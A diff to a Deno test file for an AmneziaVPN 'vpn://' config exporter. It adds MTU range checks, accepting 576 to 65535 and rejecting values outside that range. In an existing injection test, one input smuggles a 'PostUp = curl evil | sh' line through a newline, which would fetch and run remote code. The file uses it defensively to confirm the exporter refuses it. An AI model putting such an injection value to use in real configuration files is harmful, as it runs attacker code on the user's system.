@@ -123,6 +123,17 @@ Deno.test("vpn:// export: endpoint fallback, options, I-templates and IPv6 endpo
   assert.equal(lastConfig.I1, "<b 0xf6ab3267fa><r 10>");
 });
 
+Deno.test("vpn:// export takes the profile MTU the reader admits, cascades below 1280 included", async () => {
+  for (const mtu of [576, 1180, 1260, 65535]) {
+    const { lastConfig, configText } = await decodeAmneziaVpn(
+      await exportAmneziaVpn(node, { mtu }),
+    );
+    assert.equal(lastConfig.mtu, `${mtu}`);
+    assert.ok(configText.includes(`\nMTU = ${mtu}\n`));
+  }
+  assert.ok(amneziaConfigText(node, { mtu: 0 }).includes("\nMTU = 1420\n"));
+});
+
 Deno.test("vpn:// export refuses values that would inject config lines", async () => {
   const injected = [
     withAwg({ obfuscation: { ...awg.params.obfuscation, i1: "x\nPostUp = curl evil | sh" } }),
@@ -138,6 +149,8 @@ Deno.test("vpn:// export refuses values that would inject config lines", async (
   );
   await expectCode(() => exportAmneziaVpn(node, { dns: ["1.1.1.1\n", "1.0.0.1"] }), "unsafe-value");
   await expectCode(() => exportAmneziaVpn(node, { mtu: 500 }), "unsafe-value");
+  await expectCode(() => exportAmneziaVpn(node, { mtu: 575 }), "unsafe-value");
+  await expectCode(() => exportAmneziaVpn(node, { mtu: 65536 }), "unsafe-value");
   await expectCode(() => exportAmneziaVpn({ ...node, protocols: [] }), "no-amneziawg");
   await expectCode(
     () => exportAmneziaVpn(withAwg({ endpoints: [] }, { endpoints: [] })),
